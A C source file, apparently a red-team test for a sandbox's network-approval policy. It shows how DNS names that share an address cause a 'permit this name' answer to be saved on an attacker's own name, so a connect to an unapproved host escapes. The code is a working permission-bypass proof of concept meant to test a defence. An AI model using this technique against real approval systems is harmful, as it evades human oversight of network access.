/* host_scope.c: an answer "permit this name" saved for a name the approver did not mean
 * (issue 11, red team 39; class 7, host names, and the question).
 *
 * An address several names were looked up for stands for each of them: the question says
 * them all ("host": a list), and a remembered answer of scope `name` is a `host` rule on
 * one of them -- the first in sorted order.  Anybody may point a name of a zone of their own
 * at any address, so a program looks up the name the approver permits (GOOD, its address A)
 * and a name of its own that sorts first (OWN, whose answer is A and EVIL), and connects to
 * A: the approver, answering by host (its rule matches GOOD, one of the names), permits with
 * scope `name` -- and the rule remembered (and saved) is on OWN.  The connect to EVIL, which
 * only OWN names, then runs unasked.
 *
 *   host_scope GOOD OWN EVIL PORT   looks GOOD and OWN up (getaddrinfo, IPv4), connects to
 *                                   GOOD's address, then to EVIL:PORT -- ESCAPED when that
 *                                   one connects (natively: always; under a policy that
 *                                   asks about the connect, the approver refusing every
 *                                   name but GOOD: it must not), BLOCKED when it is refused
 */
#include "attack.h"
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>

static int lookup(const char *name, const char *port, char addrs[][64], int most) {
    struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *res, *p;
    int rc = getaddrinfo(name, port, &hints, &res), n = 0;
    if (rc != 0) {
        printf("note: lookup of %s: %s\n", name, gai_strerror(rc));
        return 0;
    }
    for (p = res; p && n < most; p = p->ai_next) {
        struct sockaddr_in *sa = (struct sockaddr_in *)p->ai_addr;
        inet_ntop(AF_INET, &sa->sin_addr, addrs[n], 64);
        printf("note: %s is %s\n", name, addrs[n]);
        n++;
    }
    freeaddrinfo(res);
    return n;
}

static int reach(const char *address, int port) {
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &sa.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
        return errno;
    int rc = connect(s, (struct sockaddr *)&sa, sizeof sa) == 0 ? 0 : errno;
    close(s);
    printf("note: connect to %s:%d: %s\n", address, port, rc ? ename(rc) : "connected");
    return rc;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: host_scope GOOD OWN EVIL PORT\n");
        return 2;
    }
    const char *good = argv[1], *own = argv[2], *evil = argv[3];
    int port = atoi(argv[4]);
    char good_addrs[8][64], own_addrs[8][64];
    if (lookup(good, argv[4], good_addrs, 8) < 1)
        blocked("%s does not resolve", good);
    lookup(own, argv[4], own_addrs, 8); /* its answer: GOOD's address and EVIL */
    reach(good_addrs[0], port);          /* asked: the address of GOOD and of OWN */
    int rc = reach(evil, port);
    if (rc == 0)
        escaped("connected to %s, an address only %s was looked up for", evil, own);
    blocked("the connect to %s was refused (%s)", evil, ename(rc));
}
